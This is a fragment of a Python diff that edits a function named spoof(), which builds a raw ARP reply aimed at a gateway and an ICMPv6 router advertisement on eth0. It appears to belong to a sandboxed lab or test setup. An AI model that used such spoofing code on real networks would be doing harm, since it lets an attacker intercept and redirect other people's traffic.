@@ -70,12 +70,11 @@ def udp(source: int, target: int, payload: bytes) -> bytes:
 
 
 def spoof(own: str, gateway: str) -> None:
-    mac = open("/sys/class/net/eth0/address").read().strip()
-    mine = bytes.fromhex(mac.replace(":", ""))
     other = bytes.fromhex("545200aabbcc")
     everybody = b"\xff" * 6
     raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     raw.bind(("eth0", 0))
+    mine = raw.getsockname()[4]  # not from /sys, which belongs to the host's network
     arp = struct.pack("!HHBBH", 1, 0x800, 6, 4, 2)
     address = socket.inet_aton(gateway)
     router = bytes([134, 0, 0, 0, 64, 0, 7, 8]) + bytes(8)  # an ICMPv6 router advertisement
